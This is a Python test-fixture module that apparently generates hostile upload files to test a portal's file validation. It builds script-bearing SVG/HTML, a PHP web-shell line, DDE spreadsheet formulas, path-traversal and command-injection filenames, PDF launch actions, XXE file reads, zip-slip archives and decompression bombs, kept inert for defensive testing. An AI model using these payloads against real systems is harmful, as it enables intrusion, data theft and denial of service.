"""Files that are made to hurt: active ones, liars, polyglots, cut-off ones, bombs; each with a name.

They are made here, by code, and none of them does anything: what a script in one would set is
``window.pwn``, what it would fetch is an address of nobody.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

import openpyxl
import pikepdf
import pillow_heif
from PIL import Image, PngImagePlugin

from portal.files.uploads import DOCX

SCRIPT = b"<script>window.pwn=1</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwn=1">' + SCRIPT + b"</svg>"
PLAIN_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
WORD_PART = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
RELATIONS = "application/vnd.openxmlformats-package.relationships+xml"


@dataclass(frozen=True)
class Hostile:
    """One file as it is handed in."""

    sort: str
    name: str
    content: bytes

    def __str__(self) -> str:
        return f"{self.sort}: {self.name[-60:]!r}, {len(self.content)} bytes"


def all_files() -> list[Hostile]:
    """Every file but the bombs, which are large: :func:`bombs`."""
    makers = (_active, _polyglots, _names, _cut_off, _documents, _packages, _pictures, _videos)
    return [file for maker in makers for file in maker()]


def a_few(count: int) -> list[Hostile]:
    """So many of them, from every sort in turn."""
    sorts: dict[str, list[Hostile]] = {}
    for file in all_files():
        sorts.setdefault(file.sort, []).append(file)
    chosen: list[Hostile] = []
    while len(chosen) < count and any(sorts.values()):
        for files in sorts.values():
            if files:
                chosen.append(files.pop(len(files) // 2))
    return chosen[:count]


# What is accepted, to be damaged or lied about


def saved(image: Image.Image, image_format: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


@cache
def picture(image_format: str) -> bytes:
    """A small sound picture."""
    if image_format == "HEIF":
        pillow_heif.register_heif_opener()
    return saved(Image.effect_noise((64, 48), 40).convert("RGB"), image_format)


def package(main: str, **parts: bytes | str) -> bytes:
    """An Office file of one part; ``parts`` by their names, ``__`` for a slash and ``_0_`` for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}.main+xml"/></Types>'
        archive.writestr("[Content_Types].xml", types)
        for name, content in {"word__document_0_xml": WORD_PART, **parts}.items():
            archive.writestr(name.replace("__", "/").replace("_0_", "."), content)
    return out.getvalue()


@cache
def workbook() -> bytes:
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


@cache
def sound() -> dict[str, bytes]:
    """A sound file of each accepted type, by an ending that it may have."""
    return {
        ".pdf": PLAIN_PDF,
        ".docx": package(DOCX),
        ".xlsx": workbook(),
        ".jpg": picture("JPEG"),
        ".png": picture("PNG"),
        ".webp": picture("WEBP"),
        ".heic": picture("HEIF"),
        ".mp4": video(),
    }


# Active types, under their own names and under those of what is accepted

_ACTIVE = {
    ".svg": SVG,
    ".svgz": zlib.compress(SVG),
    ".html": b"<!doctype html>" + SCRIPT,
    ".htm": b"\xef\xbb\xbf\n\n<HTML><body onload=window.pwn=1>",
    ".xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    ".xml": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x>' + SVG + b"</x>",
    ".mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT,
    ".hta": b"<hta:application>" + SCRIPT,
    ".js": b"window.pwn=1",
    ".wasm": b"\0asm\1\0\0\0",
    ".swf": b"FWS\x09" + bytes(200),
    ".php": b"<?php system($_GET['c']); ?>",
    ".jsp": b'<% Runtime.getRuntime().exec("id"); %>',
    ".py": b"#!/usr/bin/python3\nimport os\n",
    ".sh": b"#!/bin/sh\nid\n",
    ".exe": b"MZ" + bytes(200),
    ".elf": b"\x7fELF" + bytes(200),
    ".jar": package("x"),
    ".class": b"\xca\xfe\xba\xbe" + bytes(60),
    ".lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
    ".url": b"[InternetShortcut]\nURL=file://nobody.invalid/x\n",
    ".eps": b"%!PS-Adobe-3.0 EPSF-3.0\n(x) (r) file",
    ".tex": b"\\input{/etc/passwd}",
    ".csv": b"=cmd|' /C calc'!A0,=1+1\n",
    ".css": b"body{background:url(//nobody.invalid)}",
    ".ico": b"\0\0\1\0" + bytes(60),
    ".gif": saved(Image.new("P", (3, 3)), "GIF"),
    ".bmp": saved(Image.new("RGB", (3, 3)), "BMP"),
    ".tiff": saved(Image.new("RGB", (3, 3)), "TIFF"),
    ".psd": b"8BPS\0\1" + bytes(60),
    ".fits": b"SIMPLE  =                    T".ljust(2880),
    ".avif": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(100),
    ".rtf": b"{\\rtf1{\\object\\objupdate}}",
    ".doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000),
    ".gz": b"\x1f\x8b\x08\0" + bytes(60),
    ".7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
    ".rar": b"Rar!\x1a\x07\0" + bytes(60),
}


def _active() -> Iterator[Hostile]:
    for ending, content in _ACTIVE.items():
        for lie in (ending, ".pdf", ".png", ".docx", f".pdf{ending}"):
            yield Hostile("active", f"a{lie}", content)


def _polyglots() -> Iterator[Hostile]:
    javascript = b"GIF89a/*" + bytes(10) + b"*/=window.pwn=1//"
    for ending in (".gif", ".js", ".png", ".html"):
        yield Hostile("polyglot", f"gif-js{ending}", javascript)
    for ending, content in sound().items():
        yield Hostile("polyglot", f"html-behind{ending}", content + b"<!doctype html>" + SCRIPT)
        yield Hostile("polyglot", f"zip-behind{ending}", content + package("x"))
        yield Hostile("polyglot", f"html-before{ending}", b"<!doctype html>" + SCRIPT + content)
        yield Hostile("polyglot", f"called-html{ending}.html", content)
    inside = PLAIN_PDF.replace(b"%%EOF", b"%" + SCRIPT + b"\n%%EOF")
    yield Hostile("polyglot", "html-inside.pdf", inside)
    yield Hostile("polyglot", "html-inside.html", inside)
    yield Hostile(
        "polyglot", "php-inside.jpg", saved(Image.new("RGB", (9, 9)), "JPEG", comment=b"<?php x(); ?>")
    )
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", SCRIPT.decode())
    yield Hostile("polyglot", "html-inside.png", saved(Image.new("RGB", (9, 9)), "PNG", pnginfo=notes))


_STEMS = (
    "../../../etc/passwd",
    "..\\..\\boot",
    "/etc/cron.d/x",
    "C:\\x",
    "\\\\nobody.invalid\\share\\x",
    "file:///etc/x",
    "a\0.exe",
    "a%00.exe",
    "a\r\nSet-Cookie: x=1\r\n",
    "a\nContent-Type: text/html",
    'a"; filename="b.html',
    "a'; DROP TABLE x; --",
    "<script>window.pwn=1</script>",
    '"><img src=x onerror=window.pwn=1>',
    "{{ 7*7 }}{% debug %}",
    "${7*7}#{7*7}",
    "%s%s%n%(x)s",
    "=cmd|' /C calc'!A0",
    "fdp\u202egpj",
    "\u2066\u2067\u2068\u202d\u200f",
    "a\u2028b\u2029c\u0085d",
    "\x1b[2J\x07",
    "م" * 127,
    "ـ" * 300,
    "e" + "\u0301" * 2000,
    "𝒜" * 300,
    "a" * 5000,
    "CON",
    ".htaccess",
    "...",
    " ",
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "a:b:$DATA",
    "a.php.jpg.html",
    "~$x",
    "-rf",
    "$(id)`id`|id",
)


def _names() -> Iterator[Hostile]:
    for number, stem in enumerate(_STEMS):
        content = PLAIN_PDF + f"% {number}\n".encode()
        yield Hostile("name", f"{stem}.pdf", content)
        yield Hostile("name", stem, content)


def _cut_off() -> Iterator[Hostile]:
    for ending, content in sound().items():
        yield Hostile("cut off", f"nothing{ending}", b"")
        for kept in (1, 4, 12, 40, len(content) // 2, len(content) * 19 // 20):
            yield Hostile("cut off", f"{kept}{ending}", content[:kept])
        yield Hostile("cut off", f"zeros{ending}", content[:12] + bytes(len(content)))
        damaged = bytes(byte ^ 0xFF if place % 37 == 20 else byte for place, byte in enumerate(content))
        yield Hostile("cut off", f"damaged{ending}", damaged)


# PDF


def _pdf(change: Callable[[pikepdf.Pdf], object], **options: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        change(pdf)
        pdf.save(out, **options)
    return out.getvalue()


def _acting(**action: object) -> bytes:
    values = {
        key: value if not isinstance(value, str) else _pdf_value(value) for key, value in action.items()
    }

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(**values)

    return _pdf(change)


def _pdf_value(value: str) -> object:
    return pikepdf.Name(value) if value.startswith("/") else pikepdf.String(value)


def _with_attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = b"MZ" + bytes(100)


def _with_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp:xdp>" + SCRIPT + b"</xdp:xdp>"))


def _turned_in_circles(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Parent = pdf.Root.Pages
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)


def _documents() -> Iterator[Hostile]:
    locked = pikepdf.Encryption(owner="owner", user="user", R=6)
    documents = {
        "javascript": _acting(S="/JavaScript", JS="app.alert(1)"),
        "launch": _acting(S="/Launch", F="/bin/sh"),
        "uri": _acting(S="/URI", URI="http://nobody.invalid/"),
        "submit": _acting(S="/SubmitForm", F="http://nobody.invalid/"),
        "remote": _acting(S="/GoToR", F="\\\\nobody.invalid\\x.pdf"),
        "attachment": _pdf(_with_attachment),
        "form": _pdf(_with_form),
        "locked": _pdf(lambda pdf: None, encryption=locked),
        "circle": _pdf(_turned_in_circles),
        "no-objects": b"%PDF-1.7\n%%EOF\n",
        "far-reference": PLAIN_PDF + b"startxref\n99999999999999\n%%EOF",
        "named-html": PLAIN_PDF.replace(b"Catalog", b"Catalog/Author(<script>window.pwn=1</script>)"),
    }
    for name, content in documents.items():
        yield Hostile("document", f"{name}.pdf", content)
    yield Hostile("document", "locked.docx", documents["locked"])


# Packages


def _zipped(*members: tuple[str | zipfile.ZipInfo, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def _link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = 0o120777 << 16
    return info


def _marked_encrypted(data: bytes) -> bytes:
    changed = bytearray(data)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = changed.find(sign)
        while place >= 0:
            changed[place + offset] |= 1
            place = changed.find(sign, place + 4)
    return bytes(changed)


def entities(levels: int = 9) -> str:
    """A document type whose last entity unfolds into ``10 ** levels`` words."""
    declared = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, levels + 1)
    )
    return f"<!DOCTYPE x [{declared}]><x>&a{levels};</x>"


def _packages() -> Iterator[Hostile]:
    fetching = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    template = 'Type="attachedTemplate" Target="http://nobody.invalid/x.dotm" TargetMode="External"'
    remote = f"<Relationships><Relationship {template}/></Relationships>"
    macros = "application/vnd.ms-word.document.macroEnabled"
    types = ("[Content_Types].xml", f"<Types>{DOCX}.main+xml</Types>")
    contents = {
        "entities": package(DOCX, word__document_0_xml=entities()),
        "entities-wide": package(DOCX, word__document_0_xml=entities().encode("utf-16")),
        "fetches": package(DOCX, docProps__core_0_xml=fetching),
        "remote-template": package(DOCX, word___rels__settings_0_xml_0_rels=remote),
        "macros": package(macros),
        "hidden-macros": package(DOCX, word__vbaProject_0_bin=b"\xd0\xcf\x11\xe0"),
        "object": package(DOCX, word__embeddings__oleObject1_0_bin=b"\xd0\xcf\x11\xe0" + bytes(600)),
        "field": package(DOCX, word__document_0_xml='<w:instrText>DDEAUTO c:\\\\x "calc"</w:instrText>'),
        "climbs": _zipped(types, ("../../../../etc/cron.d/x", "x")),
        "link": _zipped(types, (_link("word/document.xml"), "/etc/passwd")),
        "twice": _zipped(types, ("word/document.xml", "a"), ("word/document.xml", "b")),
        "locked": _marked_encrypted(package(DOCX)),
        "nested": _zipped(types, ("word/embeddings/a.zip", _zipped(("b.zip", _zipped(("c", bytes(10**6))))))),
        "no-parts": b"PK\x05\x06" + bytes(18),
        "only-a-zip": _zipped(("a.txt", "x")),
        "deep": _zipped(types, ("a/" * 5000 + "x.xml", "x")),
    }
    for name, content in contents.items():
        yield Hostile("package", f"{name}.docx", content)
        yield Hostile("package", f"{name}.xlsx", content)
    book = openpyxl.Workbook()
    book.active["A1"] = "=cmd|' /C calc'!A0"
    out = io.BytesIO()
    book.save(out)
    yield Hostile("package", "formula.xlsx", out.getvalue())


# Pictures


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, bits: int = 1, colours: int = 0) -> bytes:
    """A PNG that says it is so large, in very few bytes; ``more`` are chunks before its pixels."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colours, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(1024), 9))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + pixels + chunk(b"IEND", b"")


def swollen(size: int) -> bytes:
    """So many zeros, packed."""
    packer = zlib.compressobj(9)
    pieces = [packer.compress(bytes(2**20)) for _ in range(size // 2**20)]
    return b"".join([*pieces, packer.flush()])


def _pictures() -> Iterator[Hostile]:
    heic = picture("HEIF")
    size = heic.find(b"ispe") + 8
    contents = {
        "no-pixels.png": png(0, 0),
        "negative.png": png(2**31 - 1, 2**31 - 1),
        "line.png": png(2**31 - 1, 1),
        "text.png": png(8, 8, chunk(b"zTXt", b"Comment\0\0" + swollen(2**21))),
        "profile.png": png(8, 8, chunk(b"iCCP", b"a\0\0" + swollen(2**21))),
        "no-end.jpg": picture("JPEG")[:-2],
        "markers.jpg": b"\xff\xd8" + b"\xff\xfe\0\2" * 5000 + picture("JPEG")[2:],
        "wide.jpg": picture("JPEG").replace(b"\0\x30\0\x40", b"\xff\xff\xff\xff"),
        "wide.webp": b"RIFF"
        + struct.pack("<I", 22)
        + b"WEBPVP8X"
        + struct.pack("<I", 10)
        + b"\0" * 4
        + b"\xff" * 6,
        "wide.heic": heic[:size] + struct.pack(">II", 60_000, 60_000) + heic[size + 8 :],
        "exif.jpg": saved(Image.new("RGB", (9, 9)), "JPEG", exif=b"Exif\0\0II*\0" + b"\xff" * 300),
        "icon-in-it.png": png(8, 8, chunk(b"eXIf", b"MM\0*\0\0\0\x08\xff\xff" + bytes(30))),
    }
    for name, content in contents.items():
        yield Hostile("picture", name, content)


# Videos


def box(kind: bytes, content: bytes = b"", size: int | None = None) -> bytes:
    return struct.pack(">I4s", 8 + len(content) if size is None else size, kind) + content


def video() -> bytes:
    """The boxes of a video, without a picture in it."""
    handler = box(b"hdlr", bytes(8) + b"vide" + bytes(12))
    track = box(b"trak", box(b"tkhd", bytes(80)) + box(b"mdia", handler + box(b"minf")))
    return (
        box(b"ftyp", b"isom\0\0\0\0isommp42")
        + box(b"moov", box(b"mvhd", bytes(96)) + track)
        + box(b"mdat", b"x" * 64)
    )


def _videos() -> Iterator[Hostile]:
    start = box(b"ftyp", b"isom\0\0\0\0isommp42")
    deep = b""
    for _ in range(2000):
        deep = box(b"moov", deep)
    contents = {
        "too-long": start + box(b"moov", size=2**31),
        "too-short": start + box(b"moov", size=3),
        "endless": start + box(b"free") * 25_000,
        "deep": start + deep,
        "no-track": start + box(b"moov") + box(b"mdat"),
        "large-box": start + struct.pack(">I4sQ", 1, b"moov", 2**63),
        "place": video() + box(b"udta", b"\xa9xyz+33.87+007.88/"),
        "script": video().replace(b"x" * 64, (SCRIPT * 3)[:64]),
    }
    for name, content in contents.items():
        yield Hostile("video", f"{name}.mp4", content)
    yield Hostile("video", "place.html", contents["place"])


# Bombs


def _long_pdf(pages: int) -> bytes:
    """A PDF of so many empty pages, all of them the same."""
    kids = b" ".join([b"3 0 R"] * pages)
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )
    out, places = b"%PDF-1.4\n", []
    for number, written in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj%sendobj\n" % (number, written)
    table = b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + table + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(out)


def _sheet_bomb(megabytes: int) -> bytes:
    """A workbook whose only sheet is zeros: 1,028 times as large once unpacked."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    parts["xl/worksheets/sheet1.xml"] = bytes(megabytes * 2**20)
    return _zipped(*parts.items())


def _nested(depth: int, width: int) -> bytes:
    inner = _zipped(("0", bytes(2**24)))
    for _ in range(depth):
        inner = _zipped(*((f"{number}.zip", inner) for number in range(width)))
    return inner


def _pdf_of_streams(count: int) -> bytes:
    """A PDF each of whose object streams unpacks to 64 MB."""
    packed = swollen(2**26)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    objects = b"".join(b"%d 0 obj%sendobj\n" % (number + 2, stream) for number in range(count))
    return PLAIN_PDF.replace(b"trailer", objects + b"trailer")


def _many_parts(count: int) -> bytes:
    members = ((f"word/{number}.xml", "") for number in range(count))
    return _zipped(("[Content_Types].xml", f"<Types>{DOCX}.main+xml</Types>"), *members)


@dataclass(frozen=True)
class Bomb:
    """A small file that is large once somebody opens it."""

    name: str
    make: Callable[[], bytes]
    is_kept: bool = False
    """Whether it may be taken: what is never opened here cannot go off here."""


BOMBS = [
    Bomb("workbook 1028 to 1.xlsx", lambda: _sheet_bomb(200)),
    Bomb("nested.zip", lambda: _nested(3, 16)),
    Bomb("nested.docx", lambda: _nested(3, 16)),
    Bomb("nested in a document.docx", lambda: package(DOCX, word__a_0_zip=_nested(3, 16)), is_kept=True),
    Bomb("many parts.docx", lambda: _many_parts(60_000)),
    Bomb("entities.docx", lambda: package(DOCX, word__document_0_xml=entities())),
    Bomb("content types.docx", lambda: _zipped(("[Content_Types].xml", bytes(200 * 2**20)))),
    Bomb("20000 x 20000.png", lambda: png(20_000, 20_000, bits=8, colours=6)),
    Bomb(
        "20000 x 20000.jpg",
        lambda: picture("JPEG").replace(b"\0\x30\0\x40", struct.pack(">HH", 20_000, 20_000)),
    ),
    Bomb("20000 x 20000.heic", lambda: _pictures_by_name()["wide.heic"]),
    Bomb("16000 x 16000.webp", lambda: _pictures_by_name()["wide.webp"]),
    Bomb("text.png", lambda: png(8, 8, chunk(b"zTXt", b"a\0\0" + swollen(2**26)))),
    Bomb("profile.png", lambda: png(8, 8, chunk(b"iCCP", b"a\0\0" + swollen(2**26)))),
    Bomb("20000 x 20000.fits", lambda: _fits(20_000)),
    Bomb("20000 x 20000 called.png", lambda: _fits(20_000)),
    Bomb("50000 pages.pdf", lambda: _long_pdf(50_000), is_kept=True),
    Bomb("streams.pdf", lambda: _pdf_of_streams(40), is_kept=True),
    Bomb("boxes.mp4", lambda: box(b"ftyp", b"isom\0\0\0\0isommp42") + box(b"free") * 2_000_000),
]


def _pictures_by_name() -> dict[str, bytes]:
    return {file.name: file.content for file in _pictures()}


def _fits(side: int) -> bytes:
    cards = ["SIMPLE  = T", "BITPIX  = 8", "NAXIS   = 2", f"NAXIS1  = {side}", f"NAXIS2  = {side}", "END"]
    return "".join(card.ljust(80) for card in cards).ljust(2880).encode()
